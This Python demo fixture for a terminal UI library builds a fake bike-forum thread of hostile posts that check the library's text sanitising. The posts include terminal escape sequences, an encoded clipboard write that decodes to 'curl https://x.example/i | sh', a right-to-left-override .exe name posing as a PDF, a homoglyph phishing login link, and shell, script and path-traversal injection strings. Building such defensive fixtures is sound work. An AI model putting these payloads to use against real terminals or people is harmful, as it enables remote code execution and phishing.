"""Texts that attack the program that shows them: terminal, markup, direction, size.

Each is harmless wherever ``modtui.text`` stands between it and the screen.
"""

from modtui.demo.shapes import Flag, Say, Talk

ZALGO_MARKS = tuple(chr(0x0300 + number) for number in range(0, 0x6F, 3))
LONG_LINE = 200_000
"""Characters in the one-line post."""


def zalgo(text: str, height: int = 24) -> str:
    """The text with that many combining marks on each letter."""
    pile = "".join(ZALGO_MARKS[step % len(ZALGO_MARKS)] for step in range(height))
    return "".join(letter + pile if letter.isalpha() else letter for letter in text)


def long_line() -> str:
    """A single line that most widgets choke on."""
    start = "My bike computer exports this, can somebody read it? "
    return (start + "9f3a;ride;0.0417;" * (LONG_LINE // 17 + 1))[:LONG_LINE]


def odd_address() -> str:
    """The forum's own address with a Cyrillic letter in it."""
    return "https://sp\u043eke-solder.example/login"


LOGS = Talk(
    "repair",
    "GPS unit prints garbage (logs inside)",
    (
        Say("kit", "My GPS writes odd things to its log. Paste yours so that we can compare?"),
        Say(
            "escapes",
            "Mine clears the screen:\n\x1b[2J\x1b[H\x1b[31;1mSESSION EXPIRED\x1b[0m press q to log "
            "in again\x1b[?1049l",
            (Flag("kit", "my terminal went red when I read the mail about this", "other"),),
        ),
        Say(
            "escapes",
            "and this line copies something: \x1b]52;c;Y3VybCBodHRwczovL3guZXhhbXBsZS9pIHwgc2g=\x07"
            " \x1b]0;root@server\x07 \x1b]8;;http://x.example\x1b\\update here\x1b]8;;\x1b\\",
            (
                Flag("olu", "That puts a command into your clipboard. Not funny.", "malware"),
                Flag("dana", "looks like an attack", "malware"),
            ),
        ),
        Say(
            "escapes",
            "8-bit version: \x9b2J\x9b1;5H\x9d0;owned\x9c \x90q\x9c\x07\x07\x07 \x08\x08\x08\x7f "
            "done",
            (Flag("kit", "", "malware"),),
        ),
        Say(
            "markup",
            "[@click=app.quit]Free inner tubes, click here[/] [/] [bold red blink]SALE[/bold] "
            "[[ ]] [link=file:///etc/hosts]map[/link] :warning:",
            (Flag("gwen", "broken formatting, or trying to break something", "spam"),),
        ),
        Say(
            "bidi",
            "The manual is here: manual\u202efdp.exe and the price is \u2067 500 \u2069 not 5, "
            "trust me \u202dnimda a morf\u202c",
            (Flag("finn", "The file name is backwards: it ends in .exe", "malware"),),
            attachments=(("manual\u202efdp.exe", "application/pdf", 18_211),),
        ),
        Say(
            "bidi",
            "ca\u200bsino bo\u200bnus fo\u200dr cyc\u2060lists, ｃｈｅａｐ ｍｅｄｓ, "
            "\U000e0063\U000e0061\U000e0074 no tricks",
            (Flag("maud", "There is something odd between the letters.", "spam"),),
        ),
        Say(
            "marks",
            zalgo("please help my gears are haunted"),
            (Flag("nell", "unreadable, hangs my phone", "other"),),
        ),
        Say(
            "kit",
            long_line(),
            (Flag("walter", "too long", "other"), Flag("gwen", "page won't load", "other")),
        ),
        Say(
            "seller",
            f"Admins here. Your account will be suspended today: verify your account at "
            f"{odd_address()}",
            (Flag("priya", "That “o” is not an o. Copy of our login.", "scam"),),
        ),
        Say(
            "formula",
            "{{moderator}} {{appeal}} {author} %s %n ${HOME} `id` <script>alert(1)</script> "
            "../../etc/passwd",
            (Flag("kit", "is this a template gone wrong?", "other"),),
        ),
        Say(
            "formula",
            "half a smiley: \ud83d and the other half never came",
            (Flag("kit", "shows as a box", "other"),),
        ),
        Say(
            "jess",
            "\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n(sorry, my cat sat on the "
            "keyboard)\r\n\t\t\t👩‍🔧👨‍👩‍👧‍👦🏳️‍🌈🚲\u2028and again",
            (Flag("walter", "flooding", "spam"),),
        ),
    ),
    began=11,
    pace=25,
)

TALKS = (LOGS,)
